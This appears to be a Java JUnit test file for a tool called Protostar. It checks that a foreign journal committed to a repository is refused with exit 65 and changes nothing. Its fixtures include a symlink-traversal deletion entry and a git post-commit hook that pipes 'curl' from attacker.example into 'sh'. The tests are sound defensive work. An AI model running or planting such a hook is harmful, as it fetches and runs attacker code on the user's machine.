package dev.protostar.examples.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, section 1: a {@code .protostar/journal/} that Protostar did not write on this machine
 * for this folder — committed to a repository, unpacked from an archive — is never replayed. The
 * run stops with exit 65 before anything looks at the project, says what it found and how to
 * inspect or remove it, and nothing inside or outside the folder changes.
 */
class HostileInputsJournalTest {

    private static final String FOREIGN = "was not written by Protostar on this machine for this folder";

    @TempDir
    Path temp;

    private ClonedRepository scene;
    private Path clone;
    private Path victim;
    private Map<String, String> environment;

    @BeforeEach
    void setUp() throws IOException {
        scene = ClonedRepository.in(temp, "victimdir/data/deep");
        clone = scene.clone;
        victim = scene.victim;
        environment = scene.environment;
    }

    private ClonedRepository.Run protostar(String... args) {
        return scene.protostar(args);
    }

    private void write(String path, String content) throws IOException {
        Path file = clone.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content, StandardCharsets.UTF_8);
    }

    private static String sha256(String content) {
        try {
            return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                    .digest(content.getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Every entry under {@code root} (links not followed): kind, mode, and content digest or link target. */
    private static Map<String, String> snapshot(Path root) throws IOException {
        Map<String, String> entries = new TreeMap<>();
        try (Stream<Path> all = Files.walk(root)) {
            for (Path path : (Iterable<Path>) all::iterator) {
                String mode = PosixFilePermissions.toString(Files.getPosixFilePermissions(path, LinkOption.NOFOLLOW_LINKS));
                String what = Files.isSymbolicLink(path) ? "link -> " + Files.readSymbolicLink(path)
                        : Files.isDirectory(path, LinkOption.NOFOLLOW_LINKS) ? "folder " + mode
                        : "file " + mode + " " + java.util.HexFormat.of().formatHex(java.security.MessageDigest
                                .getInstance("SHA-256").digest(Files.readAllBytes(path)));
                entries.put(root.relativize(path).toString(), what);
            }
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
        return entries;
    }

    @Test
    void aCommittedJournalThatDeletesThroughASymlinkIsRefusedAndNothingOutsideIsTouched() throws IOException {
        Files.createSymbolicLink(clone.resolve("up"), Path.of("../victimdir"));
        write(".protostar/journal/run", "protostar-journal 1\nprotostar-folder created\n");
        write(".protostar/journal/000001.entry", "protostar-journal-entry 1\npath up/data\nprior absent\n");
        Map<String, String> project = snapshot(clone);
        Map<String, String> outside = snapshot(temp.resolve("victimdir"));
        FileTime folderTime = Files.getLastModifiedTime(clone);
        FileTime journalFolderTime = Files.getLastModifiedTime(clone.resolve(".protostar"));

        ClonedRepository.Run run = protostar("init", "--cpp", "--dir", "clone");

        assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(65);
        assertThat(run.out() + run.err()).doesNotContain("Recovered");
        assertThat(run.err()).contains(FOREIGN).contains("Nothing was replayed or changed")
                .contains(".protostar/journal/*.entry").contains("delete .protostar/");
        assertThat(snapshot(temp.resolve("victimdir"))).isEqualTo(outside);
        assertThat(Files.readString(victim.resolve("precious.txt"))).isEqualTo("do not delete\n");
        assertThat(snapshot(clone)).isEqualTo(project);
        assertThat(Files.getLastModifiedTime(clone)).isEqualTo(folderTime);
        assertThat(Files.getLastModifiedTime(clone.resolve(".protostar"))).as("the lock came and went").isEqualTo(journalFolderTime);
        assertThat(temp.resolve("state")).as("checking a seal never creates a key").doesNotExist();
    }

    @Test
    void aCommittedJournalThatWritesAGitHookIsRefused() throws IOException {
        String hook = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n";
        Files.createDirectories(clone.resolve(".git/hooks"));
        write(".protostar/journal/run", "protostar-journal 1\nprotostar-folder created\n");
        write(".protostar/journal/000001.bytes", hook);
        write(".protostar/journal/000001.entry", "protostar-journal-entry 1\npath .git/hooks/post-commit\nprior file\n"
                + "mode 0755\nsize " + hook.length() + "\nsha256 " + sha256(hook) + "\nbytes 000001.bytes\n");
        Map<String, String> project = snapshot(clone);

        ClonedRepository.Run run = protostar("init", "--cpp", "--dir", "clone");

        assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(65);
        assertThat(run.err()).contains(FOREIGN);
        assertThat(clone.resolve(".git/hooks/post-commit")).doesNotExist();
        assertThat(snapshot(clone)).isEqualTo(project);
    }

    @Test
    void aCommittedJournalIsRefusedByGenerateToo() throws IOException {
        Files.createSymbolicLink(clone.resolve("up"), Path.of("../victimdir"));
        write(".protostar/journal/run", "protostar-journal 1\nprotostar-folder created\n");
        write(".protostar/journal/000001.entry", "protostar-journal-entry 1\npath up/data\nprior absent\n");
        Map<String, String> project = snapshot(clone);

        ClonedRepository.Run run = protostar("generate", "cpp-class", "Motor", "--dir", "clone");

        assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(65);
        assertThat(run.err()).contains(FOREIGN);
        assertThat(Files.readString(victim.resolve("precious.txt"))).isEqualTo("do not delete\n");
        assertThat(snapshot(clone)).isEqualTo(project);
    }

    @Test
    void aRealRunKeepsItsKeyPrivateOutsideTheProjectAndIgnoresItsRunFolder() throws IOException {
        ClonedRepository.Run run = protostar("init", "--cpp", "--dir", "fresh");

        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        Path key = temp.resolve("state/protostar/journal.key");
        assertThat(Files.size(key)).isEqualTo(32);
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key))).isEqualTo("rw-------");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key.getParent()))).isEqualTo("rwx------");
        assertThat(run.out() + run.err()).doesNotContain(java.util.HexFormat.of().formatHex(Files.readAllBytes(key)));
        assertThat(Files.readAllLines(temp.resolve("fresh/.gitignore"))).contains(".protostar/");
        assertThat(temp.resolve("fresh/.protostar")).doesNotExist();
    }

    @Test
    void whenTheKeyCannotBeCreatedRunsStillWork() throws IOException {
        Files.writeString(temp.resolve("not-a-folder"), "a file where the state folder would be");
        environment.put("XDG_STATE_HOME", temp.resolve("not-a-folder").toString());

        ClonedRepository.Run run = protostar("init", "--cpp", "--dir", "fresh");

        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        assertThat(Files.readAllLines(temp.resolve("fresh/.gitignore"))).contains(".protostar/");
        assertThat(temp.resolve("fresh/.protostar")).doesNotExist();
    }
}
